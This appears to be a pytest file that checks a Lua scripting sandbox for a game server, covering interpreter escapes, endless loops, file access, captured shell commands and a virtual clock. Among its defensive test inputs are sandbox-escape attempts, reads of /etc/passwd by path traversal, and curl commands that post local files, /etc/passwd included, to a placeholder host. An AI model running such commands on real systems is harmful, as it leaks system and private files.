"""A script cannot leave its VM, cannot hang the server, and sees only the sandbox's files, commands and clock."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest

from python_checks.engine import ShellCall, VirtualClock

from .helpers import EPOCH_S, NOMINAL_HOME, boot, lua

INTERPRETERS = ("lua54", "luajit")
SHORT = {"instruction_limit": 300_000}


@pytest.mark.parametrize("interpreter", INTERPRETERS)
@pytest.mark.parametrize(
    "code",
    [
        "return python == nil and package.loaded.python == nil",
        "return not pcall(require, 'python')",
        "return not pcall(require, 'ffi')",
        "return not pcall(package.loadlib, '/lib/x86_64-linux-gnu/libc.so.6', 'system')",
        "return package.searchers == nil and package.loaders == nil and package.searchpath == nil",
        "for _, n in ipairs{'getregistry', 'getupvalue', 'setupvalue', 'upvaluejoin', "
        "'getlocal', 'setlocal', 'sethook', 'setmetatable'} do "
        "if debug[n] and pcall(debug[n], 1, 1) then return n end end return true",
        "return debug.getmetatable(io.stdout) == nil",
        "return not (debug.getinfo(et.trap_Cvar_Get, 'f').func == nil)",
        "return not pcall(function() return et.trap_Cvar_Get.__globals__ end)",
        "return not pcall(string.rep, 'x', 1e10)",
        "return load('\\27Lua') == nil",
        "return load(string.dump(function() end)) == nil",
        "local done = false return load(function() if done then return nil end done = true return '\\27Lua' end) == nil",
        "return io.open('/etc/passwd') == nil",
        "return io.open('/home/et/.etlegacy/../../../etc/passwd') == nil",
        "return not pcall(io.lines, '/etc/passwd')",
        "return not pcall(dofile, '/etc/passwd')",
        "return loadfile('/etc/passwd') == nil",
        "return os.getenv('SECRET_FOR_TEST') == nil",
        "return not pcall(os.exit, 0)",
        "return jit == nil or (jit.on() or true) and jit.status() == false",
        "return (rawget(_G, 'newproxy') == nil or pcall(newproxy)) and true",
    ],
)
def test_no_way_out(interpreter: str, code: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each known way out of a Lua VM is closed."""
    monkeypatch.setenv("SECRET_FOR_TEST", "canary")
    assert lua(tmp_path, interpreter, code) is True


@pytest.mark.parametrize("interpreter", INTERPRETERS)
@pytest.mark.parametrize(
    "code",
    [
        "while true do end",
        "while true do pcall(function() while true do end end) end",
        "while true do xpcall(function() while true do end end, function(e) return e end) end",
        "coroutine.wrap(function() while true do end end)()",
        "local co = coroutine.create(function() while true do end end) while true do coroutine.resume(co) end",
        "local f f = function() return f() end f()",
        "load('while true do end')()",
        "if debug.sethook then pcall(debug.sethook) end while true do end",
    ],
)
def test_endless_code_becomes_an_error(interpreter: str, code: str, tmp_path: Path) -> None:
    """No loop hangs the server, no pcall swallows the stop; the module is called again in the next frame."""
    server = boot(
        tmp_path,
        interpreter,
        {
            "a": f"function et_RunFrame() if et.trap_Cvar_Get('go') == '1' then\n{code}\nend end",
            "b": "function et_RunFrame() n = (n or 0) + 1 et.trap_Cvar_Set('n', n) end",
        },
        **SHORT,
    )
    server.execute_now("set go 1")
    before = int(server.cvars.get("n").split(".")[0])
    server.frame()
    server.frame()
    assert (
        sum("et_RunFrame error running lua script" in line and "ran too long" in line for line in server.console) == 2
    )
    assert int(server.cvars.get("n").split(".")[0]) == before + 2


@pytest.mark.parametrize("interpreter", INTERPRETERS)
def test_endless_chunk(interpreter: str, tmp_path: Path) -> None:
    """A chunk that never ends fails to start; the next module loads."""
    server = boot(tmp_path, interpreter, {"a": "while true do end", "b": ""}, **SHORT)
    assert "Lua VM start failed ( luascripts/a.lua )" in "\n".join(server.console)
    assert len(server.lua.vms) == 1


def test_allowance_is_per_callback(tmp_path: Path) -> None:
    """Many short callbacks never add up to a stop."""
    server = boot(tmp_path, "lua54", {"a": "function et_RunFrame() for i = 1, 20000 do end end"}, **SHORT)
    for _ in range(100):
        server.frame()
    assert not any("too long" in line for line in server.console)


@pytest.mark.parametrize("interpreter", INTERPRETERS)
def test_captured_files_and_commands(interpreter: str, tmp_path: Path) -> None:
    """Nominal paths map on the sandbox, @files are copied at call time, nothing is executed, foreign writes are refused and recorded."""
    mark = Path("/var/tmp") / f"{tmp_path.name}-{os.getpid()}"
    code = f"""
        local name = os.tmpname()
        local f = assert(io.open(name, "w")) f:write("first") f:close()
        os.execute("curl --data-binary @" .. name .. " http://example.invalid/ >/dev/null 2>&1 &")
        f = io.open(name, "w") f:write("second") f:close()
        local p = io.popen('curl -d "@{NOMINAL_HOME}/legacy/x.json" -d @/etc/passwd; touch {mark}')
        local read = p:read("*a") p:close()
        os.execute("mkdir -p '{NOMINAL_HOME}/legacy/gametimes'")
        local g, e = io.open("{NOMINAL_HOME}/legacy/gametimes/a.json", "w") g:write("{{}}") g:close()
        assert(os.rename("{NOMINAL_HOME}/legacy/gametimes/a.json", "{NOMINAL_HOME}/legacy/gametimes/b.json"))
        local bad, message, number = io.open("{mark}", "w")
        assert(not os.remove("/etc/hostname") and not os.rename(name, "{mark}"))
        assert(os.remove(name) and not io.open(name))
        local none, text = io.open("{NOMINAL_HOME}/none", "r")
        return tostring(bad) .. "|" .. message .. "|" .. number .. "|" .. #read .. "|" .. text
    """
    seen: list[ShellCall] = []
    server = boot(
        tmp_path,
        interpreter,
        {"t": f"function et_IPCReceive() {code} end"},
        on_shell=lambda call: seen.append(call) or 0,
    )
    result = server.lua.vms[0].call("et_IPCReceive", 0, "")
    assert result == (True, f"nil|{mark}: Permission denied|13|0|{NOMINAL_HOME}/none: No such file or directory")
    first, second, third = server.shell_calls
    assert seen == server.shell_calls
    assert (first.via, first.module) == ("os.execute", "")
    assert list(first.payloads.values()) == [b"first"]
    assert second.payloads == {f"{NOMINAL_HOME}/legacy/x.json": None, "/etc/passwd": None}
    assert first.unix_ms // 1000 == EPOCH_S and third.command.startswith("mkdir")
    assert (tmp_path / "home/legacy/gametimes/b.json").read_text() == "{}"
    assert not mark.exists()
    assert Path("/etc/hostname").exists()
    refused = [touch.path for touch in server.files_written if touch.real is None]
    assert refused == [str(mark), "/etc/hostname", str(mark)]
    server.quit()


def test_a_link_out_of_the_sandbox_is_refused(tmp_path: Path) -> None:
    """A symbolic link inside the tree does not lead outside."""
    (tmp_path / "home/legacy").mkdir(parents=True)
    (tmp_path / "home/legacy/out").symlink_to("/etc")
    assert lua(tmp_path, "lua54", f"return tostring(io.open('{NOMINAL_HOME}/legacy/out/passwd'))") == "nil"


@pytest.mark.parametrize("interpreter", INTERPRETERS)
def test_run_mode_is_real(interpreter: str, tmp_path: Path) -> None:
    """In run mode commands are executed and paths are the machine's own; the call is recorded all the same."""
    code = f"""
        local a, how, code = os.execute("echo hi > {tmp_path}/out; exit 3")
        local p = io.popen("echo popen") local text = p:read("*a") p:close()
        local w = io.popen("cat > {tmp_path}/written", "w") w:write("x") w:close()
        return tostring(a) .. tostring(how) .. tostring(code) .. text
    """
    wanted = "nilexit3popen\n" if interpreter == "lua54" else "768nilnilpopen\n"
    assert lua(tmp_path, interpreter, code, shell="run") == wanted
    assert (tmp_path / "out").read_text() == "hi\n"
    for _ in range(100):  # the writer's process ends by itself
        if (tmp_path / "written").exists() and (tmp_path / "written").read_text() == "x":
            break
        time.sleep(0.02)
    assert (tmp_path / "written").read_text() == "x"


@pytest.mark.parametrize("interpreter", INTERPRETERS)
def test_exit_codes_of_captured_commands(interpreter: str, tmp_path: Path) -> None:
    """A test decides what a captured command returns, in the interpreter's own shape."""
    wanted = "nilexit7" if interpreter == "lua54" else "1792nilnil"
    code = "local a, b, c = os.execute('curl') return tostring(a) .. tostring(b) .. tostring(c)"
    assert lua(tmp_path, interpreter, code, on_shell=lambda call: 7) == wanted


@pytest.mark.parametrize("interpreter", INTERPRETERS)
def test_clocks(interpreter: str, tmp_path: Path) -> None:
    """os.time, os.date and os.clock follow the virtual clock; trap_Milliseconds has another origin than levelTime."""
    code = """
        local noon = os.time({ year = 2000, month = 1, day = 2, hour = 12 })
        return table.concat({ os.time(), os.date("!%Y-%m-%d", os.time()), os.date("!%H", 3600), noon }, "|")
    """
    moment, day, hour, _ = str(lua(tmp_path, interpreter, code)).split("|")
    assert (moment, day, hour) == (str(EPOCH_S), "2026-02-20", "01")
    server = boot(
        tmp_path / "2",
        interpreter,
        {"a": "function et_RunFrame(t) et.trap_Cvar_Set('d', t - et.trap_Milliseconds()) end"},
    )
    first = float(server.cvars.get("d"))
    server.frame()
    second = float(server.cvars.get("d"))
    server.execute_now("map_restart 0")
    server.frame()
    assert first != 0 and float(server.cvars.get("d")) > second


def test_real_clock_is_never_behind() -> None:
    """Without a fixed epoch the clock is lifted to real time, never turned back."""
    clock = VirtualClock()
    clock.advance(5_000)
    ahead = clock.now_ms
    clock.sync()
    assert clock.now_ms == ahead
    clock.now_ms -= 60_000
    clock.sync()
    assert clock.now_ms >= ahead - 5_000


@pytest.mark.parametrize(
    ("interpreter", "library"),
    [("lua54", "utf8 nil nil nil nil function"), ("luajit", "nil table table function function nil")],
)
def test_library_differences(interpreter: str, library: str, tmp_path: Path) -> None:
    """Both interpreters are real: what exists and what does not (domain.md 3.5)."""
    code = """
        local found = { utf8 and "utf8" or "nil" }
        for i, value in pairs({ type(bit), type(jit), type(loadstring), type(unpack), type(math.type) }) do found[i + 1] = value end
        return table.concat(found, " ")
    """
    assert lua(tmp_path, interpreter, code) == library
    formatted = lua(
        tmp_path / "2", interpreter, "return select(2, pcall(function() return (string.format('%d', 7.374583)) end))"
    )
    error = "[string \"luascripts/t.lua\"]:2: bad argument #2 to 'format' (number has no integer representation)"
    assert formatted == (error if interpreter == "lua54" else "7")


def test_require_of_lua_files(tmp_path: Path) -> None:
    """Lua libraries of the mod folder can be required; the search path is the recorded one."""
    (tmp_path / "base/legacy/lualibs").mkdir(parents=True)
    (tmp_path / "base/legacy/lualibs/mine.lua").write_text("return {answer = 42}")
    assert lua(tmp_path, "lua54", "return require('mine').answer + #require('mine')") == 42
    path = lua(tmp_path / "2", "luajit", "return package.path")
    base, home = "/home/et/etlegacy-v2.83.1-x86_64/legacy", "/home/et/.etlegacy/legacy"
    assert path == f"{base}/?.lua;{base}/lualibs/?.lua;{home}/?.lua;{home}/lualibs/?.lua"


def test_forgotten_sandbox_leaves_nothing(tmp_path: Path) -> None:
    """A process that never calls quit() leaves no directory behind either."""
    code = (
        "from pathlib import Path; from python_checks.engine import Server; "
        f"server = Server(Path('{tmp_path}'), Path('{tmp_path}')); print(server.sandbox._temp)"
    )
    done = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, cwd=Path(__file__).parents[3], check=True
    )
    assert done.stdout.startswith("/") and not Path(done.stdout.strip()).exists()


def test_sandbox_leaves_nothing(tmp_path: Path) -> None:
    """quit() removes the sandbox's own temporary directory."""
    server = boot(tmp_path, "lua54", {})
    folder = server.sandbox._temp
    assert folder.is_dir()
    server.quit()
    assert not folder.exists()
